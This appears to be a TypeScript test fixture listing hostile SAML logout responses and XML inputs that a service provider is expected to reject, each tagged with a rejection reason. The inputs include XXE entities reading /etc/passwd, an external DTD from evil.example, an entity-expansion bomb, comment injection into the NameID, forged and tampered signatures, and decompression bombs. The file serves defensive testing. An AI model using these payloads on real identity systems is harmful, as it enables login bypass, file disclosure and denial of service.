import { deflateRawSync } from 'node:zlib'
import type { ReceivedLogout } from '../../../src/features/saml/logout-message.ts'
import { edit, NAME, NOW, signElement } from '../../support/saml-idp.ts'
import { type AboutLogout, buildLogoutResponse, posted, redirected } from '../../support/saml-logout.ts'
import { attack, attacker, form, type LogoutAttack, raw, request } from './attacks.ts'

const response = (about: AboutLogout = {}): ReceivedLogout =>
  posted(buildLogoutResponse(about), { kind: 'SAMLResponse' })

export const responseAttacks: readonly LogoutAttack[] = [
  attack('a response to another request', 'in-response-to', () => response({ requestId: '_other' })),
  attack('a response that nobody waits for', 'in-response-to', () => response(), { requestId: undefined }),
  attack('a response that names no request', 'in-response-to', () =>
    posted(edit(buildLogoutResponse(), / InResponseTo="[^"]*"/, ''), { kind: 'SAMLResponse' }),
  ),
  attack(
    'a response that names no request, and nobody waits for',
    'in-response-to',
    () => posted(edit(buildLogoutResponse(), / InResponseTo="[^"]*"/, ''), { kind: 'SAMLResponse' }),
    { requestId: undefined },
  ),
  attack('a response of another issuer', 'issuer', () => response({ issuer: 'https://other.example/' })),
  attack('a response for another address', 'destination', () => response({ destination: 'https://x.example/' })),
  attack('a response that is too old', 'expired', () => response({ now: NOW - 661_000 })),
  attack('a response that is not signed', 'signature-missing', () => form(buildLogoutResponse(), 'SAMLResponse')),
  attack('a response signed by the attacker', 'signature', () =>
    posted(buildLogoutResponse(), { kind: 'SAMLResponse', key: attacker }),
  ),
  attack('a response without a status', 'status', () =>
    posted(edit(buildLogoutResponse(), /<samlp:Status>.*<\/samlp:Status>/, ''), { kind: 'SAMLResponse' }),
  ),
  attack('a response with two statuses', 'status', () =>
    posted(
      edit(buildLogoutResponse(), /<samlp:Status>.*<\/samlp:Status>/, found => found + found),
      { kind: 'SAMLResponse' },
    ),
  ),
  attack('a status that was changed on the way', 'signature', () =>
    form(
      edit(
        signElement(buildLogoutResponse({ codes: ['urn:oasis:names:tc:SAML:2.0:status:Responder'] }), '_logout'),
        ':status:Responder',
        ':status:Success',
      ),
      'SAMLResponse',
    ),
  ),
]

const prefixed = (before: string): ReceivedLogout => form(before + request)

export const xmlAttacks: readonly LogoutAttack[] = [
  attack('an external entity', 'xml-doctype', () => prefixed('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
  attack('an external DTD', 'xml-doctype', () => prefixed('<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">')),
  attack('entities that expand without end', 'xml-doctype', () =>
    prefixed('<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>'),
  ),
  attack('an external entity, signed, by redirect', 'xml-doctype', () =>
    redirected(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${request}`),
  ),
  attack('a comment in the NameID', 'xml-comment', () => redirected(request.replace(NAME, 'admin<!---->@a.example'))),
  attack('CDATA in the NameID', 'xml-markup', () => redirected(request.replace(NAME, `<![CDATA[${NAME}]]>`))),
  attack('a processing instruction', 'xml-processing-instruction', () => redirected(request.replace(NAME, '<?x y?>'))),
  attack('no XML', 'xml-xml', () => redirected('logout')),
  attack('a tag that does not end', 'xml-xml', () => redirected(request.slice(0, -5))),
  attack('an undeclared prefix', 'xml-xml', () =>
    redirected(request.replace('<saml:NameID>', '<evil:x/><saml:NameID>')),
  ),
  attack('bytes that are not UTF-8', 'utf-8', () => form(Buffer.from([0x3c, 0xff, 0xfe, 0x3e]))),
  attack('no base64, by POST', 'base64', () => ({ binding: 'post', kind: 'SAMLRequest', encoded: '%%%' })),
  attack('no base64, by redirect', 'base64', () => redirected(request, { message: '%%%' })),
  attack('a broken percent-encoding, by redirect', 'message', () =>
    redirected(request, { message: '%', write: value => (value === '%' ? '%E0%' : encodeURIComponent(value)) }),
  ),
  attack('bytes that are not compressed, by redirect', 'deflate', () =>
    redirected(request, { message: Buffer.from('<a>not compressed</a>').toString('base64') }),
  ),
  attack('an empty message, by redirect', 'base64', () => redirected(request, { message: '' })),
  attack('a message of 64 KiB and more, by POST', 'size', () => form('a'.repeat(100_000))),
  attack('a message of 64 KiB and a little more, by POST', 'xml-size', () => form(`<a>${'a'.repeat(65_600)}</a>`)),
  attack('100 MB in a few bytes, signed, by redirect', 'size', () => redirected('a'.repeat(100_000_000))),
  attack('100 MB in a few bytes, not signed, by redirect', 'signature-missing', () =>
    raw(`SAMLRequest=${encodeURIComponent(deflateRawSync(Buffer.alloc(100_000_000)).toString('base64'))}`),
  ),
  attack('elements nested 21 deep', 'xml-size', () =>
    redirected(request.replace(NAME, `${'<a>'.repeat(21)}${'</a>'.repeat(21)}`)),
  ),
  attack('2,001 elements', 'xml-size', () => redirected(request.replace(NAME, '<a/>'.repeat(2_001)))),
  attack('an element with 51 attributes', 'xml-size', () =>
    redirected(
      request.replace(
        '<saml:NameID>',
        `<x ${Array.from({ length: 51 }, (_, n) => `a${n}="1"`).join(' ')}/><saml:NameID>`,
      ),
    ),
  ),
]
